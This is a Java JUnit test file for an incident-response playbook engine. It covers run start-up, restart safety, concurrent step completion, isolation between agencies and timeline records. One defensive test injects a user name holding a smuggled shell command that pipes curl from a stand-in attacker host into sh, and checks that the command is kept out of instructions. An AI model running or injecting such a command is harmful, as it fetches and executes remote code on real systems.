package mo.farol.playbook;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.Executors;
import mo.farol.alert.Alert;
import mo.farol.incident.Cases;
import mo.farol.incident.Conflict;
import mo.farol.incident.TimelineEntry;
import mo.farol.ledger.Deeds;
import mo.farol.ledger.Desk;
import mo.farol.ledger.SampleAlert;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class RunsTest {
  private static final String CASE = "FRL-2026-0001";

  @TempDir Path folder;

  @Test
  void a_case_starts_the_playbook_it_calls_for_with_what_it_knows_filled_in() {
    try (var desk = Desk.open(folder)) {
      var run = started(desk);
      assertThat(run.name()).isEqualTo("Password guessed: the first hour");
      assertThat(run.startedBy()).isEqualTo("farol");
      assertThat(run.steps().get(1).step().instructions().getFirst())
          .contains("203.0.113.7 on web-1");
      assertThat(run.steps().get(2).state()).isEqualTo(StepRun.State.WAITING);
      assertThat(run.work()).isEqualTo(12);
      assertThat(run.finished()).isZero();
    }
  }

  @Test
  void a_restart_in_the_middle_changes_nothing() {
    Run before;
    try (var desk = Desk.open(folder)) {
      var run = started(desk);
      before = runs(desk).complete(run.id(), open(run, 0), "ana", "yes", Desk.NATIONAL);
    }
    try (var desk = Desk.open(folder)) {
      assertThat(runs(desk).get(before.id(), Desk.NATIONAL)).contains(before);
      var after =
          runs(desk)
              .decide(before.id(), open(before, 0), "true", "ana", "it was not her", Desk.NATIONAL);
      assertThat(after.open()).hasSize(3);
    }
  }

  @Test
  void a_run_keeps_to_the_text_it_began_with() {
    try (var desk = Desk.open(folder)) {
      var run = started(desk);
      var none =
          new Runs(desk.ledger, desk.deeds, Playbooks.load(List.of()), Cases.on(desk), desk.clock);
      assertThat(none.get(run.id(), Desk.NATIONAL)).contains(run);
      assertThat(run.sha256()).hasSize(64);
      assertThat(run.modified()).isEqualTo("2026-11-24T00:00:00.000Z");
    }
  }

  @Test
  void of_two_people_who_complete_one_step_one_wins_and_the_other_is_told() throws Exception {
    try (var desk = Desk.open(folder);
        var people = Executors.newVirtualThreadPerTaskExecutor()) {
      var run = started(desk);
      Callable<Run> ana =
          () -> runs(desk).complete(run.id(), open(run, 0), "ana", "mine", Desk.NATIONAL);
      Callable<Run> rui =
          () -> runs(desk).complete(run.id(), open(run, 0), "rui", "mine", Desk.NATIONAL);
      int won = 0;
      for (var done : people.invokeAll(List.of(ana, rui))) {
        try {
          assertThat(done.get().finished()).isEqualTo(1);
          won++;
        } catch (ExecutionException e) {
          assertThat(e).hasCauseInstanceOf(Conflict.class).hasMessageContaining("first");
        }
      }
      assertThat(won).isEqualTo(1);
      assertThat(desk.deeds.of(run.id() + "/" + open(run, 0))).hasSize(1);
    }
  }

  @Test
  void the_same_playbook_is_under_way_once_and_may_be_run_again_when_it_has_ended() {
    try (var desk = Desk.open(folder)) {
      var run = started(desk);
      assertThat(runs(desk).start(CASE, run.playbook(), "ana", Desk.NATIONAL)).isEqualTo(run);
      while (!runs(desk).get(run.id(), Desk.NATIONAL).orElseThrow().isEnded()) {
        var now = runs(desk).get(run.id(), Desk.NATIONAL).orElseThrow();
        runs(desk).skip(run.id(), open(now, 0), "ana", "drill over", Desk.NATIONAL);
      }
      assertThat(runs(desk).start(CASE, run.playbook(), "ana", Desk.NATIONAL).id())
          .isNotEqualTo(run.id());
      assertThat(runs(desk).ofIncident(CASE, Desk.NATIONAL)).hasSize(2);
    }
  }

  @Test
  void another_agency_sees_no_run_and_moves_none() {
    try (var desk = Desk.open(folder)) {
      var run = started(desk);
      var runs = runs(desk);
      assertThat(runs.get(run.id(), Desk.SCHOOLS)).isEmpty();
      assertThat(runs.ofIncident(CASE, Desk.SCHOOLS)).isEmpty();
      assertThat(runs.open(Desk.SCHOOLS, 10)).isEmpty();
      assertThatThrownBy(() -> runs.complete(run.id(), open(run, 0), "eve", "done", Desk.SCHOOLS))
          .isInstanceOf(Conflict.class);
      assertThatThrownBy(() -> runs.start(CASE, run.playbook(), "eve", Desk.SCHOOLS))
          .isInstanceOf(Conflict.class);
      assertThat(runs.open(Desk.HARBOUR, 10)).hasSize(1);
    }
  }

  @Test
  void the_list_of_tasks_goes_over_all_open_cases() {
    try (var desk = Desk.open(folder)) {
      var run = started(desk);
      desk.raise(SampleAlert.named("a2").about("host.name", "db-1").raised());
      Cases.on(desk).catchUp();
      runs(desk).start("FRL-2026-0002", run.playbook(), "ana", Desk.NATIONAL);
      assertThat(runs(desk).open(Desk.NATIONAL, 10))
          .extracting(Task::incident)
          .containsExactly(CASE, "FRL-2026-0002");
      assertThat(runs(desk).open(Desk.NATIONAL, 1)).hasSize(1);
    }
  }

  @Test
  void steps_that_are_not_open_and_choices_that_are_none_are_refused_in_words() {
    try (var desk = Desk.open(folder)) {
      var run = started(desk);
      var runs = runs(desk);
      String confirm = open(run, 0);
      String later = run.steps().get(2).step().id();
      assertThatThrownBy(() -> runs.complete(run.id(), later, "ana", "", Desk.NATIONAL))
          .hasMessageContaining("decide between true, false");
      assertThatThrownBy(() -> runs.decide(run.id(), later, "true", "ana", "", Desk.NATIONAL))
          .hasMessageContaining("not open yet");
      assertThatThrownBy(() -> runs.decide(run.id(), confirm, "true", "ana", "", Desk.NATIONAL))
          .hasMessageContaining("nothing to decide");
      assertThatThrownBy(() -> runs.skip(run.id(), confirm, "ana", " ", Desk.NATIONAL))
          .hasMessageContaining("reason");
      assertThatThrownBy(
              () ->
                  runs.complete(
                      run.id(), run.steps().getFirst().step().id(), "ana", "", Desk.NATIONAL))
          .hasMessageContaining("by itself");
      assertThatThrownBy(
              () ->
                  runs.complete(
                      run.id(), confirm, "ana", "", Map.of("__shell__", "x"), Desk.NATIONAL))
          .hasMessageContaining("no variable");
      assertThat(runs.get(run.id(), Desk.NATIONAL)).contains(run);
    }
  }

  @Test
  void what_people_did_stands_in_the_timeline_of_the_case_and_among_the_deeds() {
    try (var desk = Desk.open(folder)) {
      var run = started(desk);
      runs(desk).complete(run.id(), open(run, 0), "ana", "it worked at 07:31", Desk.NATIONAL);
      assertThat(Cases.on(desk).timeline(CASE, Desk.NATIONAL))
          .filteredOn(e -> e.kind().equals("step"))
          .extracting(TimelineEntry::text)
          .containsExactly(
              "playbook started: Password guessed: the first hour",
              "Find out whether a password worked: done — it worked at 07:31");
      assertThat(desk.deeds.of(run.id()))
          .extracting(Deeds.Deed::what)
          .containsExactly("run.started");
      assertThat(desk.deeds.firstBroken()).isEmpty();
    }
  }

  @Test
  void a_user_name_that_is_a_shell_command_is_not_put_into_anybodys_instructions() {
    try (var desk = Desk.open(folder)) {
      desk.raise(
          SampleAlert.named("a1")
              .about("host.name", "web-1", "user.name", "x; curl evil.example|sh #")
              .raised());
      Cases.on(desk).catchUp();
      var run = runs(desk).start(CASE, book().getFirst().id(), "ana", Desk.NATIONAL);
      assertThat(run.steps().toString()).doesNotContain("curl").contains("__user_name__");
    }
  }

  @Test
  void a_rule_named_by_its_id_wins_over_techniques_and_those_over_classes() {
    var playbooks = Playbooks.load(List.of(Path.of("book")));
    assertThat(playbooks.answering(List.of(technique("T1110.003")), "").orElseThrow().name())
        .startsWith("Password guessed");
    assertThat(playbooks.answering(List.of(technique("T1059.001")), "").orElseThrow().name())
        .startsWith("Malware");
    assertThat(playbooks.answering(List.of(technique("T9999")), "")).isEmpty();
    assertThat(
            playbooks.answering(List.of(technique("T9999")), "malicious-code").orElseThrow().name())
        .startsWith("Malware");
  }

  @Test
  void a_case_that_a_sudden_end_left_without_its_playbook_gets_it_at_the_next_start() {
    try (var desk = Desk.open(folder)) {
      desk.raise(SampleAlert.named("a1").techniques("T1110").raised());
      Cases.on(desk).catchUp(); // nobody listens

      assertThat(runs(desk).answerAll()).isEqualTo(1);
      assertThat(runs(desk).ofIncident(CASE, Desk.NATIONAL)).hasSize(1);
      assertThat(runs(desk).answerAll()).isZero();
    }
  }

  private static Alert technique(String technique) {
    return SampleAlert.named("a").techniques(technique).raised();
  }

  private Run started(Desk desk) {
    var incidents = Cases.on(desk);
    desk.raise(SampleAlert.named("a1").raised());
    incidents.catchUp();
    return runs(desk).answer(incidents.get(CASE, Desk.NATIONAL).orElseThrow()).orElseThrow();
  }

  private static String open(Run run, int i) {
    return run.open().get(i).step().id();
  }

  private static List<Playbook> book() {
    return Playbooks.load(List.of(Path.of("book"))).all();
  }

  private static Runs runs(Desk desk) {
    var playbooks = Playbooks.load(List.of(Path.of("book")));
    return new Runs(desk.ledger, desk.deeds, playbooks, Cases.on(desk), desk.clock);
  }
}
